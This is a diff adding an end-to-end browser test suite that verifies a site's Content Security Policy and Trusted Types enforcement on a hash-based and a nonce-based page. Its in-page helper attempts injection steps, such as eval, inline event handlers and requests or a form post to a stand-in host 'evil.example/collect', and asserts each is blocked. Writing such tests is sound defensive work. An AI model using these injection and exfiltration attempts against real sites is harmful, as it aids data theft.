@@ -1,0 +1,124 @@
+import { createHash } from 'node:crypto'
+import { expect, test } from '../drivers/fixtures.ts'
+import { wake } from '../drivers/hydration.ts'
+
+const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
+
+test('a page without a nonce runs under a policy of hashes, with Trusted Types enforced and nothing preloaded [S30]', async ({
+  page,
+  request,
+}) => {
+  const asked: string[] = []
+  page.on('request', (asking) => asked.push(new URL(asking.url()).pathname))
+  // The second answer comes from the page cache.
+  await request.get('/faqs')
+  const html = await (await request.get('/faqs')).text()
+  const response = await page.goto('/faqs')
+  const policy = response!.headers()['content-security-policy']!
+
+  expect(policy).not.toContain('nonce')
+  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types boot html")
+  expect(html).not.toMatch(/ nonce=|rel="modulepreload"|as="script"/)
+  const scripts = [...html.matchAll(/<script(?<attributes>[^>]*)>(?<code>[\s\S]*?)<\/script>/g)].map(
+    ({ groups }) => groups!,
+  )
+  const code = scripts
+    .filter(({ attributes }) => !/application\/(ld\+)?json/.test(attributes!))
+    .map((script) => script.code!)
+  expect(code).toHaveLength(2)
+  for (const script of code) expect(policy).toContain(sha256(script))
+
+  await wake(page)
+  await expect(page.locator('[data-basket-count]').first()).toBeAttached()
+  // The session is all that public HTML does not say; everything else came with the page.
+  expect(asked.filter((path) => path.startsWith('/bff'))).toEqual(['/bff/session'])
+})
+
+/** Does what no page may, and says how it went and which directives stood in the way. Runs in the page. */
+const misbehave = async () => {
+  const violated = new Set<string>()
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
+  const attempt = (act: () => unknown) => {
+    try {
+      act()
+      return 'allowed'
+    } catch (error) {
+      return (error as Error).name
+    }
+  }
+  const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
+    .trustedTypes
+  const make = (name: string, attributes: Record<string, string>) => {
+    const element = document.createElement(name)
+    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
+    document.body.append(element)
+    return element
+  }
+  const thrown = {
+    html: attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
+    parsing: attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
+    source: attempt(() => (document.createElement('script').src = '/assets/other.js')),
+    plugin: attempt(() => make('object', { data: 'https://evil.example/' })),
+    handler: attempt(() => make('button', { onclick: 'self.planted = true' })),
+    anotherPolicy: attempt(() => types.createPolicy('mine', {})),
+    ourPolicyAgain: attempt(() => types.createPolicy('boot', {})),
+  }
+  const painted = make('p', { style: 'color: rgb(1, 2, 3)' })
+  make('img', { src: 'https://evil.example/pixel.png' })
+  make('iframe', { src: 'https://evil.example/' })
+  make('base', { href: 'https://evil.example/' })
+  make('link', { rel: 'stylesheet', href: 'https://evil.example/style.css' })
+  await fetch('https://evil.example/collect').catch(() => {})
+  const form = make('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
+  form.submit()
+  await new Promise((resolve) => setTimeout(resolve, 300))
+  // Not before a pause: what a test runs at once may evaluate whatever the policy says.
+  const evaluation = attempt(() => globalThis.eval('self.planted = true'))
+  const wanted = [
+    'require-trusted-types-for',
+    'trusted-types',
+    'style-src-attr',
+    'img-src',
+    'frame-src',
+    'base-uri',
+    'style-src-elem',
+    'connect-src',
+    'form-action',
+  ]
+  return {
+    thrown: { ...thrown, evaluation },
+    unhindered: wanted.filter((directive) => !violated.has(directive)),
+    colour: getComputedStyle(painted).color,
+    ran: 'planted' in globalThis,
+  }
+}
+
+for (const [kind, path] of [
+  ['hashes', '/faqs'],
+  ['a nonce', '/basket'],
+] as const) {
+  test(`what a policy with ${kind} forbids is really blocked, Trusted Types and style attributes first [S30]`, async ({
+    page,
+    expectTrouble,
+    trouble,
+  }) => {
+    expectTrouble(/CSP violation|CSP report|Content Security Policy|Trusted ?(HTML|Script|Type)/i)
+    await page.goto(path)
+    await wake(page)
+    const { thrown, unhindered, colour, ran } = await page.evaluate(misbehave)
+    expect(thrown).toEqual({
+      html: 'TypeError',
+      parsing: 'TypeError',
+      source: 'TypeError',
+      plugin: 'TypeError',
+      handler: 'TypeError',
+      anotherPolicy: 'TypeError',
+      ourPolicyAgain: 'TypeError',
+      evaluation: 'EvalError',
+    })
+    expect(unhindered).toEqual([])
+    expect([colour === 'rgb(1, 2, 3)', ran]).toEqual([false, false])
+    // What no test declares fails it: no page of any journey has a style attribute.
+    expect(trouble.seen.join()).toContain('CSP violation: style-src-attr')
+  })
+}
